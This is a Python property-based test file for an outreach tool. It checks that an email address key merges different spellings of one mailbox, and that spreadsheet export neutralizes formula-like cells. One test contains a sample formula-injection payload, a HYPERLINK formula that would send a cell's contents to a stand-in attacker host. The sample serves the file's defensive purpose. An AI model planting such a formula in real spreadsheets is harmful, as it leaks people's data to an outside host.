"""The address key: every spelling of one mailbox meets, no two mailboxes collide; and the
spreadsheet neutralization that export applies and import undoes."""

from __future__ import annotations

import unicodedata

import idna
from hypothesis import given
from hypothesis import strategies as st

from outreach.supporters.addresses import address_key
from outreach.supporters.spreadsheet import neutralize, restore

LOCAL = st.text(
    st.characters(
        categories=("Lu", "Ll", "Nd"),
        include_characters="._+-éÉßΣσςİıÅ",
        exclude_characters="@",
    ),
    min_size=1,
    max_size=20,
)
LABEL = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyzäöüéçñ"), min_size=1, max_size=12)
DOMAIN = st.lists(LABEL, min_size=1, max_size=3).map(lambda labels: ".".join([*labels, "org"]))


def _folded(text: str) -> str:
    return unicodedata.normalize("NFC", unicodedata.normalize("NFC", text).casefold())


def _spellings(local: str, domain: str) -> st.SearchStrategy[str]:
    """Ways a person may type one address: letter case, NFC/NFD, U-label or A-label, spaces.

    Only case changes that keep the mailbox (`I` is not the upper case of dotless i).
    """
    ascii_domain = idna.encode(domain, uts46=True).decode()
    cases = (str.upper, str.lower, str.casefold, str.title, str.swapcase, str)
    kept = [f for f in cases if _folded(f(local)) == _folded(local)]
    return st.tuples(
        st.sampled_from(kept),
        st.sampled_from(["NFC", "NFD"]),
        st.sampled_from([domain, domain.upper(), ascii_domain, ascii_domain.upper()]),
        st.sampled_from(["", " ", "\t"]),
    ).map(lambda p: f"{p[3]}{unicodedata.normalize(p[1], p[0](local))}@{p[2]}{p[3]}")


@given(st.data(), LOCAL, DOMAIN)
def test_any_two_spellings_of_one_mailbox_meet(
    data: st.DataObject, local: str, domain: str
) -> None:
    first = data.draw(_spellings(local, domain))
    second = data.draw(_spellings(local, domain))
    assert address_key(first) == address_key(second)
    assert address_key(address_key(first)) == address_key(first)  # a key is its own key


@given(LOCAL, DOMAIN, LOCAL, DOMAIN)
def test_no_two_mailboxes_collide(local: str, domain: str, other: str, elsewhere: str) -> None:
    same_local = _folded(local) == _folded(other)
    same_domain = idna.encode(domain, uts46=True) == idna.encode(elsewhere, uts46=True)
    meet = address_key(f"{local}@{domain}") == address_key(f"{other}@{elsewhere}")
    assert meet == (same_local and same_domain)


def test_the_cases_the_old_rule_split() -> None:
    assert address_key("ÉMILIE@example.org") == address_key("émilie@example.org")
    assert address_key("ANDRÉ@example.org") == address_key("andre\u0301@Example.ORG")
    assert address_key("ΟΔΥΣΣΕΑΣ@example.org") == address_key("οδυσσεας@example.org")
    assert address_key("x@BÜCHER.example") == address_key("x@xn--bcher-kva.example")
    assert address_key("ana@example.org") != address_key("anna@example.org")


@given(st.text())
def test_import_undoes_exactly_the_exports_neutralization(value: str) -> None:
    assert restore(neutralize(value)) == value


@given(st.text())
def test_no_neutralized_cell_starts_a_formula(value: str) -> None:
    assert not neutralize(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formulas_get_a_quote_and_other_text_is_kept() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert neutralize(attack) == "'" + attack
    assert [neutralize(v) for v in ("+1 613", "-5", "@x", "\tx", "\rx")] == [
        "'+1 613",
        "'-5",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert neutralize("O'Brien") == "O'Brien"
    assert neutralize("'=x") == "''=x"
    assert restore("'quoted by the organizer") == "'quoted by the organizer"
